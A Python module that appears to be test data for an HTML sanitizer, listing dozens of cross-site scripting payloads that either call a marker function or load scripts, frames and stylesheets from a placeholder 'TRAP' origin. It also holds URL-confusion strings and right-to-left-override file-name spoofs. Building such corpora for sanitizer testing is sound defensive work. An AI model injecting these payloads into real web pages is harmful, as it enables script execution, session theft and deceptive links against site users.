"""What people write who want a page to run it, to load it, or to show something else than it is.

Each one would call ``__xss`` or load something from TRAP. Marked nodes would carry ``data-evil``.
"""

from __future__ import annotations

from .breeding import bred

RUN = "__xss(1)"
PARTS = 9
"""The whole corpus is too much for one company, so it is written in so many."""


def payloads(trap: str, part: int = 0) -> list[str]:
    """Return a part of the corpus; ``trap`` is an origin that nobody has any business with."""
    texts = [*(CORPUS if part == 0 else ()), *bred()[part::PARTS]]
    return [text.replace("RUN", RUN).replace("TRAP", trap) for text in texts]


CORPUS = (
    # markup that runs by itself
    "<script data-evil>RUN</script>",
    "<SCRIPT data-evil SRC=TRAP/a.js></SCRIPT>",
    "<scr<script>ipt data-evil>RUN</scr</script>ipt>",
    "<img data-evil src=x onerror=RUN>",
    '<img data-evil src="TRAP/i.png" onload="RUN">',
    "<img/data-evil/src=`x`onerror=`RUN`>",
    '<IMG data-evil """><SCRIPT>RUN</SCRIPT>">',
    "<svg data-evil onload=RUN>",
    "<svg data-evil><script>RUN</script></svg>",
    "<svg data-evil><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg data-evil><use href=\"data:image/svg+xml,<svg id='x'><script>RUN</script></svg>#x\"/>",
    "<svg data-evil><foreignObject><iframe srcdoc='<script>parent.RUN</script>'></svg>",
    "<math data-evil><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<math data-evil><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>",
    "<iframe data-evil src=javascript:parent.RUN></iframe>",
    '<iframe data-evil srcdoc="<script>parent.RUN</script>"></iframe>',
    "<iframe data-evil src=TRAP/f.html></iframe>",
    "<object data-evil data=javascript:RUN></object>",
    "<object data-evil data=TRAP/o></object>",
    "<embed data-evil src=TRAP/e>",
    "<body data-evil onload=RUN>",
    "<details data-evil open ontoggle=RUN>",
    "<video data-evil><source onerror=RUN></video>",
    "<video data-evil poster=TRAP/p.png src=TRAP/v.mp4></video>",
    "<audio data-evil src=x onerror=RUN>",
    "<input data-evil autofocus onfocus=RUN>",
    "<select data-evil autofocus onfocus=RUN>",
    "<textarea data-evil autofocus onfocus=RUN>",
    "<marquee data-evil onstart=RUN>x</marquee>",
    "<style data-evil>@import 'TRAP/s.css'; body{background:url(TRAP/b.png)}</style>",
    "<style data-evil>@keyframes x{}</style><b style=animation-name:x onanimationstart=RUN>",
    "<link data-evil rel=stylesheet href=TRAP/l.css>",
    "<base data-evil href=TRAP/>",
    "<meta data-evil http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta data-evil http-equiv=refresh content='0;url=TRAP/'>",
    "<form data-evil action=TRAP/><button formaction=javascript:RUN>Continue</button></form>",
    "<isindex data-evil type=image src=1 onerror=RUN>",
    "<template data-evil><script>RUN</script></template>",
    "<template data-evil shadowrootmode=open><img src=x onerror=RUN></template>",
    '<noscript><p title="</noscript><img data-evil src=x onerror=RUN>">',
    "<x-evil data-evil onclick=RUN tabindex=0 autofocus onfocus=RUN>x</x-evil>",
    # out of where it stands
    '"><img data-evil src=x onerror=RUN>',
    "'><img data-evil src=x onerror=RUN>",
    '" onmouseover=RUN data-evil="',
    "' autofocus onfocus=RUN data-evil='",
    "</textarea><img data-evil src=x onerror=RUN>",
    "</title><img data-evil src=x onerror=RUN>",
    "</script><script data-evil>RUN</script>",
    "--><img data-evil src=x onerror=RUN><!--",
    "]]><img data-evil src=x onerror=RUN>",
    "\\x3cimg data-evil src=x onerror=RUN\\x3e",
    "&lt;img data-evil src=x onerror=RUN&gt;",
    "&#60;img data-evil src=x onerror=RUN&#62;",
    "＜img data-evil src=x onerror=RUN＞",
    # templates and markdown
    "{{constructor.constructor('RUN')()}}",
    "${RUN} #{RUN} <%= RUN %> {{RUN}} [[RUN]]",
    "[click](javascript:RUN) ![i](TRAP/m.png) <javascript:RUN>",
    # addresses
    "javascript:RUN",
    "JaVaScRiPt:RUN //https://x",
    "java\tscript:RUN https://ok.example",
    "data:text/html,<script>RUN</script>",
    "vbscript:RUN file:///etc/passwd blob:TRAP/x",
    "http://javascript:RUN@TRAP/",
    'https://good.example"onmouseover="RUN',
    "https://good.example/<img data-evil src=x onerror=RUN>",
    "https://good.example/'-RUN-'",
    "http://[::1]:99999/ https://%00 https:// http://\u202egnp.exe",
    "https://good.example@evil.example/ //TRAP/ \\\\TRAP\\",
    # what it looks like
    "invoice\u202egnp.exe\u202c",
    "\u2066\u2067\u202ekooB\u2069",
    "\u200b\u200d\ufeff<img\u200b data-evil src=x onerror=RUN>",
    "A" + "\u0301" * 200,
    "W" * 1500 + "<img data-evil src=x onerror=RUN>",
    "<b data-evil>" * 60,
)
